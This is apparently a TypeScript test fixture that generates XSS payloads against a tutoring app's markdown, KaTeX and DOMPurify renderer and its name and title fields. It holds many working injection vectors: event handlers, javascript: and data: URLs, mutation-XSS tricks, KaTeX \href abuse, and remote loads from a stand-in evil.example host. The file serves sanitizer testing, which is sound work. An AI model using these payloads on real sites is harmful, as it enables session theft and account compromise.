// A corpus of XSS payloads written for Tuteur's sinks: the markdown + KaTeX + DOMPurify renderer (messages,
// assignment statements, alert excerpts, rights requests, notices) and React text (names, titles). Every
// payload that could run script calls `__xss(<its id>)`, which the browser test exposes to the page, and
// every payload that could fetch something points at a host outside the loopback, which the test records.

export interface XssPayload {
  id: number;
  family: string;
  text: string;
}

const EVIL = 'http://evil.example';

/** Script vectors: each turns an id into markup that runs `__xss(id)` if it reaches the DOM unsanitised. */
const HTML_VECTORS: [string, (id: number) => string][] = [
  ['script', (id) => `<script>__xss(${id})</script>`],
  ['script-src', (id) => `<script src="${EVIL}/${id}.js"></script>`],
  ['img-onerror', (id) => `<img src=x onerror=__xss(${id})>`],
  ['img-onerror-quoted', (id) => `<img src="x" onerror="__xss(${id})">`],
  ['img-remote', (id) => `<img src="${EVIL}/${id}.png">`],
  ['svg-onload', (id) => `<svg onload=__xss(${id})>`],
  ['svg-script', (id) => `<svg><script>__xss(${id})</script></svg>`],
  ['svg-animate', (id) => `<svg><animate onbegin=__xss(${id}) attributeName=x dur=1s>`],
  ['svg-set-href', (id) => `<svg><a><set attributeName=href to="javascript:__xss(${id})"/><text y=20>clic</text></a></svg>`],
  ['svg-xlink', (id) => `<svg><a xlink:href="javascript:__xss(${id})"><text y=20>clic</text></a></svg>`],
  ['svg-use-data', (id) => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='__xss(${id})'/></svg>#x"/></svg>`],
  ['svg-foreignobject', (id) => `<svg><foreignObject><iframe srcdoc="<script>parent.__xss(${id})</script>"></iframe></foreignObject></svg>`],
  ['svg-image', (id) => `<svg><image href="${EVIL}/${id}.svg"/></svg>`],
  ['iframe-srcdoc', (id) => `<iframe srcdoc="<script>parent.__xss(${id})</script>"></iframe>`],
  ['iframe-js', (id) => `<iframe src="javascript:parent.__xss(${id})"></iframe>`],
  ['object-data', (id) => `<object data="javascript:__xss(${id})"></object>`],
  ['embed', (id) => `<embed src="data:text/html,<script>parent.__xss(${id})</script>">`],
  ['details-ontoggle', (id) => `<details open ontoggle=__xss(${id})>x</details>`],
  ['input-autofocus', (id) => `<input autofocus onfocus=__xss(${id})>`],
  ['body-onload', (id) => `<body onload=__xss(${id})>`],
  ['video-source', (id) => `<video><source onerror=__xss(${id})></video>`],
  ['audio-src', (id) => `<audio src=x onerror=__xss(${id})></audio>`],
  ['marquee', (id) => `<marquee onstart=__xss(${id})>x</marquee>`],
  ['a-js', (id) => `<a href="javascript:__xss(${id})">clic</a>`],
  ['a-js-entity', (id) => `<a href="&#106;avascript:__xss(${id})">clic</a>`],
  ['a-js-tab', (id) => `<a href="jav&#x09;ascript:__xss(${id})">clic</a>`],
  ['a-data', (id) => `<a href="data:text/html,<script>__xss(${id})</script>">clic</a>`],
  ['form-action', (id) => `<form action="javascript:__xss(${id})"><button>ok</button></form>`],
  ['button-formaction', (id) => `<button formaction="javascript:__xss(${id})">ok</button>`],
  ['meta-refresh', (id) => `<meta http-equiv="refresh" content="0;url=javascript:__xss(${id})">`],
  ['base-href', (id) => `<base href="${EVIL}/${id}/">`],
  ['link-stylesheet', (id) => `<link rel=stylesheet href="${EVIL}/${id}.css">`],
  ['style-import', (id) => `<style>@import '${EVIL}/${id}.css';</style>`],
  ['style-attr-url', (id) => `<div style="background:url(${EVIL}/${id}.png)">fond</div>`],
  ['style-attr-image-set', (id) => `<p style="background-image:image-set('${EVIL}/${id}.png' 1x)">fond</p>`],
  ['template', (id) => `<template><img src=x onerror=__xss(${id})></template>`],
  ['noscript-mxss', (id) => `<noscript><p title="</noscript><img src=x onerror=__xss(${id})>">`],
  ['math-mxss', (id) => `<math><mtext><table><mglyph><style><img src=x onerror=__xss(${id})>`],
  ['svg-style-mxss', (id) => `<svg></p><style><a id="</style><img src=1 onerror=__xss(${id})>">`],
  ['select-style', (id) => `<select><style></select><img src=x onerror=__xss(${id})></style></select>`],
  ['textarea-break', (id) => `</textarea><img src=x onerror=__xss(${id})>`],
  ['title-break', (id) => `</title><img src=x onerror=__xss(${id})>`],
  ['attr-break', (id) => `"><img src=x onerror=__xss(${id})>`],
  ['single-quote-break', (id) => `'><svg onload=__xss(${id})>`],
  ['js-string-break', (id) => `';__xss(${id});//`],
  ['template-literal', (id) => `\${__xss(${id})}`],
  ['math-href', (id) => `<math href="javascript:__xss(${id})">clic</math>`],
  ['isindex', (id) => `<isindex type=image src=1 onerror=__xss(${id})>`],
  ['srcset', (id) => `<img srcset="${EVIL}/${id}.png 1x">`],
  ['picture', (id) => `<picture><source srcset="${EVIL}/${id}.webp"><img></picture>`],
  ['uppercase', (id) => `<IMG SRC=x ONERROR=__xss(${id})>`],
  ['null-byte', (id) => `<img src=x on\u0000error=__xss(${id})>`],
  ['comment-break', (id) => `<!--><img src=x onerror=__xss(${id})>-->`],
  ['cdata', (id) => `<![CDATA[><img src=x onerror=__xss(${id})>]]>`],
];

/** Markdown constructs that become links, images or raw HTML. */
const MARKDOWN_VECTORS: [string, (id: number) => string][] = [
  ['md-link-js', (id) => `[clic](javascript:__xss(${id}))`],
  ['md-link-js-case', (id) => `[clic](JaVaScRiPt:__xss(${id}))`],
  ['md-link-js-entity', (id) => `[clic](&#106;avascript:__xss(${id}))`],
  ['md-link-js-percent', (id) => `[clic](javascript%3A__xss(${id}))`],
  ['md-link-js-space', (id) => `[clic]( javascript:__xss(${id}))`],
  ['md-link-js-control', (id) => `[clic](\u0001javascript:__xss(${id}))`],
  ['md-link-js-angle', (id) => `[clic](<javascript:__xss(${id})>)`],
  ['md-link-vbscript', (id) => `[clic](vbscript:msgbox(${id}))`],
  ['md-link-data-html', (id) => `[clic](data:text/html;base64,${Buffer.from(`<script>parent.__xss(${id})</script>`).toString('base64')})`],
  ['md-link-file', (id) => `[clic](file:///etc/passwd#${id})`],
  ['md-link-title-break', (id) => `[clic](http://localhost/ "titre\\"><img src=x onerror=__xss(${id})>")`],
  ['md-ref-js', (id) => `[clic][r${id}]\n\n[r${id}]: javascript:__xss(${id})`],
  ['md-autolink-js', (id) => `<javascript:__xss(${id})>`],
  ['md-image-remote', (id) => `![ce que tu as écrit](${EVIL}/${id}.png?q=conversation)`],
  ['md-image-ref', (id) => `![alt][i${id}]\n\n[i${id}]: ${EVIL}/${id}.png`],
  ['md-image-data-svg', (id) => `![x](data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="__xss(${id})"/>`).toString('base64')})`],
  ['md-image-in-link', (id) => `[![x](${EVIL}/${id}.png)](javascript:__xss(${id}))`],
  ['md-image-alt-html', (id) => `![<img src=x onerror=__xss(${id})>](${EVIL}/${id}.png)`],
  ['md-link-text-html', (id) => `[<img src=x onerror=__xss(${id})>](http://localhost/)`],
  ['md-code-span', (id) => `\`<img src=x onerror=__xss(${id})>\``],
  ['md-fence-html', (id) => `\`\`\`html\n<script>__xss(${id})</script>\n\`\`\``],
  ['md-fence-info', (id) => `\`\`\`"><img src=x onerror=__xss(${id})>\ncode\n\`\`\``],
  ['md-table-cell', (id) => `| a | b |\n|---|---|\n| <img src=x onerror=__xss(${id})> | [c](javascript:__xss(${id})) |`],
  ['md-heading', (id) => `# <svg onload=__xss(${id})>`],
  ['md-blockquote', (id) => `> <details open ontoggle=__xss(${id})>`],
  ['md-list', (id) => `- [clic](javascript:__xss(${id}))\n- <img src=x onerror=__xss(${id})>`],
  ['md-emphasis-html', (id) => `*<img src=x onerror=__xss(${id})>*`],
  ['md-html-block', (id) => `<div>\n<img src=x onerror=__xss(${id})>\n</div>`],
  ['md-footnote-ish', (id) => `[^1]\n\n[^1]: <script>__xss(${id})</script>`],
  ['md-linkify-js', (id) => `javascript:__xss(${id})`],
  ['md-bare-evil-url', (id) => `${EVIL}/${id}.png`],
];

/** KaTeX: commands that make links or classes, and the error paths that show the source back. */
const KATEX_VECTORS: [string, (id: number) => string][] = [
  ['tex-href-js', (id) => `$\\href{javascript:__xss(${id})}{clic}$`],
  ['tex-href-data', (id) => `$\\href{data:text/html,<script>__xss(${id})</script>}{clic}$`],
  ['tex-url-js', (id) => `$\\url{javascript:__xss(${id})}$`],
  ['tex-href-display', (id) => `$$\\href{javascript:__xss(${id})}{\\frac{1}{2}}$$`],
  ['tex-href-paren', (id) => `\\(\\href{javascript:__xss(${id})}{x}\\)`],
  ['tex-url-bracket', (id) => `\\[\\url{javascript:__xss(${id})}\\]`],
  ['tex-includegraphics', (id) => `$\\includegraphics{${EVIL}/${id}.png}$`],
  ['tex-html-class', (id) => `$\\htmlClass{x" onmouseover="__xss(${id})}{y}$`],
  ['tex-html-id', (id) => `$\\htmlId{x"><img src=x onerror=__xss(${id})>}{y}$`],
  ['tex-html-style', (id) => `$\\htmlStyle{background:url(${EVIL}/${id}.png)}{y}$`],
  ['tex-html-data', (id) => `$\\htmlData{onload=__xss(${id})}{y}$`],
  ['tex-error-img', (id) => `$\\frac{<img src=x onerror=__xss(${id})>}$`],
  ['tex-error-unknown', (id) => `$\\nimportequoi<svg onload=__xss(${id})>$`],
  ['tex-error-env', (id) => `$$\\begin{<img src=x onerror=__xss(${id})>}x\\end{y}$$`],
  ['tex-text-html', (id) => `$\\text{<img src=x onerror=__xss(${id})>}$`],
  ['tex-def-script', (id) => `$\\def\\x{<script>__xss(${id})</script>}\\x$`],
  ['tex-color-inject', (id) => `$\\color{red;background:url(${EVIL}/${id}.png)}{x}$`],
  ['tex-color-quote', (id) => `$\\color{"><img src=x onerror=__xss(${id})>}{x}$`],
  ['tex-unclosed', (id) => `$$\\frac{1}{2} <img src=x onerror=__xss(${id})>`],
  ['tex-in-link', (id) => `[$\\href{javascript:__xss(${id})}{x}$](javascript:__xss(${id}))`],
  ['tex-mathml-annotation', (id) => `$\\text{</annotation><img src=x onerror=__xss(${id})>}$`],
  ['tex-verb', (id) => `$\\verb|<img src=x onerror=__xss(${id})>|$`],
  ['tex-expand-bomb', (id) => `$\\def\\a{\\a\\a}\\a${id}$`],
  ['tex-huge-size', (id) => `$\\rule{100000em}{100000em}${id}$`],
];

/** Names and titles (shown as React text, never as markup): file names, table cells, headings. */
const NAME_VECTORS: [string, (id: number) => string][] = [
  ['name-img', (id) => `<img src=x onerror=__xss(${id})>`],
  ['name-svg', (id) => `<svg onload=__xss(${id})>`],
  ['name-script', (id) => `<script>__xss(${id})</script>`],
  ['name-attr-break', (id) => `"><img src=x onerror=__xss(${id})>`],
  ['name-js-url', (id) => `javascript:__xss(${id})`],
  ['name-filename', (id) => `devoir<img src=x onerror=__xss(${id})>.pdf`],
  ['name-traversal-file', (id) => `../../etc/passwd<svg onload=__xss(${id})>.docx`],
  ['name-markdown', (id) => `[clic](javascript:__xss(${id}))`],
  ['name-tex', (id) => `$\\href{javascript:__xss(${id})}{x}$`],
  ['name-rtl', (id) => `\u202Egnp.<img src=x onerror=__xss(${id})>`],
  ['name-template', (id) => `{{constructor.constructor('__xss(${id})')()}}`],
  ['name-entities', (id) => `&lt;img src=x onerror=__xss(${id})&gt;`],
];

let nextId = 0;

function build(family: string, vectors: [string, (id: number) => string][], wrap: (text: string) => string = (t) => t): XssPayload[] {
  return vectors.map(([name, make]) => {
    nextId += 1;
    return { id: nextId, family: `${family}/${name}`, text: wrap(make(nextId)) };
  });
}

// The same vectors in the places markdown gives them: a paragraph, a list item, a quote, a heading, a
// table cell, emphasis and link text.
const WRAPPERS: [string, (text: string) => string][] = [
  ['plain', (t) => t],
  ['list', (t) => `- ${t}`],
  ['quote', (t) => `> ${t}`],
  ['heading', (t) => `## ${t}`],
  ['table', (t) => `| x |\n|---|\n| ${t.replace(/\|/g, '\\|')} |`],
  ['emphasis', (t) => `**${t}**`],
  ['link-text', (t) => `[${t}](http://localhost/)`],
];

/** Payloads for markdown sinks: messages, statements, excerpts, request details. */
export const MARKDOWN_PAYLOADS: XssPayload[] = [
  ...WRAPPERS.flatMap(([name, wrap]) => build(`html-${name}`, HTML_VECTORS, wrap)),
  ...build('markdown', MARKDOWN_VECTORS),
  ...build('markdown-in-list', MARKDOWN_VECTORS, (t) => `1. ${t}`),
  ...build('katex', KATEX_VECTORS),
  ...build('katex-in-quote', KATEX_VECTORS, (t) => `> ${t}`),
];

/** Payloads for text sinks: class, user and school names, titles. */
export const NAME_PAYLOADS: XssPayload[] = [...build('name', NAME_VECTORS), ...build('name-html', HTML_VECTORS.slice(0, 30))];

/** A formula longer than the renderer typesets: shown as source through the fallback path. */
export function oversizedTex(id: number): string {
  return `$$\\text{${'x'.repeat(5100)}}<img src=x onerror=__xss(${id})>$$`;
}

export const ALL_IDS = (): number[] => [...MARKDOWN_PAYLOADS, ...NAME_PAYLOADS].map((p) => p.id);
